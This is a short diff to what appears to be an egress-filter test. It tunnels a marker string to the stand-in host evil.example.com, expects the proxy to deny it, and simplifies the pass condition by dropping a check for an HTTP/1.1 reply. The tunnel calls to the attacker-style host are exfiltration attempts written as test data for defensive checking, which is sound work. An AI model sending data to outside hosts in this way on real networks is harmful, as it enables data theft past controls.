@@ -2,4 +2,4 @@
 proxy=1
 setup() { sink tcp && pass PORT && allow repo.example.com; }
 attempt() { tunnel "evil.example.com:$PORT" "$MARK\n" '?'; tunnel "evil.example.com:443" "$MARK\n" '?'; }
-held() { denied && said 'HTTP/1.1'; }
+held() { denied; }
